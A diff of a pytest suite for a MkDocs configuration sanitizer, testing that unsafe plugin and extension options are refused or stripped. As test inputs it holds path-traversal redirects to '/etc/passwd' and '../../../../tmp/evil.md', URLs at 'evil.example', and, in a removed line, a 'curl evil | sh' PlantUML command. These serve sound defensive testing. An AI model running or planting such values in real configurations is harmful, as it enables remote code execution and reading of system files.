@@ -8,6 +8,7 @@ import pytest
 
 from integrations.errors import DocsBuildFailed
 from integrations.techdocs.mkdocs_config import SanitizedConfig, inside_path, sanitize_mkdocs_config
+from integrations.techdocs.mkdocs_options import EXTENSION_SCHEMAS
 from integrations.techdocs.mkdocs_yaml import load_mkdocs_yaml
 
 
@@ -85,16 +86,17 @@ def test_an_admin_can_allow_an_extra_plugin() -> None:
     "maps", ["{'../../../../tmp/evil.md': index.md}", "{old.md: ../../../etc/passwd}"]
 )
 def test_redirects_cannot_write_or_point_outside_the_site(maps: str) -> None:
-    with pytest.raises(DocsBuildFailed, match=r"plugin redirects option .* points outside"):
+    with pytest.raises(DocsBuildFailed, match=r"plugin redirects\.redirect_maps .* points outside"):
         sanitize(f"site_name: x\nplugins:\n  - redirects:\n      redirect_maps: {maps}\n")
 
 
-def test_redirects_inside_the_site_and_to_urls_are_fine() -> None:
+def test_redirects_inside_the_site_are_fine() -> None:
     result = sanitize(
         "site_name: x\nplugins:\n  - redirects:\n      redirect_maps:\n"
-        "        old.md: guides/new.md\n        gone.md: https://example.com/\n"
+        "        old.md: guides/new.md\n        moved.md: 'guides/new.md#setup'\n"
     )
-    assert result.config["plugins"][0]["redirects"]["redirect_maps"]["old.md"] == "guides/new.md"
+    maps = result.config["plugins"][0]["redirects"]["redirect_maps"]
+    assert maps == {"old.md": "guides/new.md", "moved.md": "guides/new.md#setup"}
 
 
 def test_search_is_added_so_every_site_has_a_search_index() -> None:
@@ -117,21 +119,22 @@ def test_unknown_markdown_extension_is_refused() -> None:
         sanitize("site_name: x\nmarkdown_extensions: [toc, evil_ext]\n")
 
 
-def test_extension_options_are_kept_but_dangerous_ones_removed() -> None:
+def test_extension_options_that_pass_their_schema_are_kept() -> None:
     result = sanitize(
         "site_name: x\nmarkdown_extensions:\n  - toc: {permalink: true}\n"
-        "  - plantuml_markdown: {plantuml_cmd: 'curl evil | sh'}\n"
-        "  - pymdownx.snippets: {restrict_base_path: false, url_download: true}\n"
+        "  - plantuml_markdown: {format: svg, plantuml_cmd: plantuml}\n"
+        "  - pymdownx.snippets: {base_path: [docs], url_download: false}\n"
     )
     toc, plantuml, snippets = result.config["markdown_extensions"]
     assert toc == {"toc": {"permalink": True}}
-    assert plantuml == "plantuml_markdown"
-    assert snippets == {"pymdownx.snippets": {"restrict_base_path": True}}
-    assert len(result.warnings) == 2
+    assert plantuml == {"plantuml_markdown": {"format": "svg", "plantuml_cmd": "plantuml"}}
+    options = {"base_path": ["docs"], "url_download": False, "restrict_base_path": True}
+    assert snippets == {"pymdownx.snippets": options}
+    assert result.warnings == ()
 
 
 def test_snippet_base_path_outside_the_repository_is_refused() -> None:
-    with pytest.raises(DocsBuildFailed, match="base_path '/etc' points outside"):
+    with pytest.raises(DocsBuildFailed, match=r"snippets\.base_path '/etc' points outside"):
         sanitize("site_name: x\nmarkdown_extensions:\n  - pymdownx.snippets: {base_path: [/etc]}\n")
 
 
@@ -148,3 +151,52 @@ def test_inside_path_normalises_and_refuses_escapes() -> None:
     assert inside_path("..") is None
     assert inside_path("C:/windows") is None
     assert inside_path("a\\..\\b") is None
+
+
+@pytest.mark.parametrize(
+    ("config", "reason"),
+    [
+        (
+            "markdown_extensions:\n  - toc: {permalinks: true}\n",
+            "mkdocs.yml: markdown extension toc: unknown option 'permalinks' (allowed: anchorlink,",
+        ),
+        (
+            "markdown_extensions:\n  - pymdownx.snippets: {restrict_base_path: false}\n",
+            "pymdownx.snippets.restrict_base_path is not allowed: snippets must stay inside",
+        ),
+        (
+            "plugins:\n  - material/search: {jieba_dict: /etc/passwd}\n",
+            "plugin material/search.jieba_dict '/etc/passwd' points outside the repository",
+        ),
+        (
+            "markdown_extensions:\n  - toc: {slugify: my.module.slug}\n",
+            "toc.slugify must be one of the allowed !!python/name: helpers",
+        ),
+        (
+            "markdown_extensions:\n  - pymdownx.keys: {separator: 'https://evil.example/'}\n",
+            "pymdownx.keys.separator cannot be a URL",
+        ),
+        (
+            "plugins:\n  - awesome-pages: {collapse: 'http://evil.example/x'}\n",
+            "plugin awesome-pages.collapse cannot be a URL",
+        ),
+    ],
+    ids=["unknown", "snippets-anywhere", "path", "callable", "url-in-text", "operator-plugin"],
+)
+def test_options_outside_their_schema_are_refused_naming_the_option(
+    config: str, reason: str
+) -> None:
+    with pytest.raises(DocsBuildFailed) as refused:
+        sanitize("site_name: x\n" + config, extra_plugins=["awesome-pages"])
+    assert reason in refused.value.user_message
+
+
+def test_every_schema_option_is_one_the_extension_really_has() -> None:
+    import markdown
+
+    md = markdown.Markdown()
+    for name, schema in EXTENSION_SCHEMAS.items():
+        if name.endswith("extra"):
+            continue  # its options are the sub-extensions' names
+        known = md.build_extension(name, {}).getConfigs()
+        assert set(schema) <= set(known), (name, set(schema) - set(known))
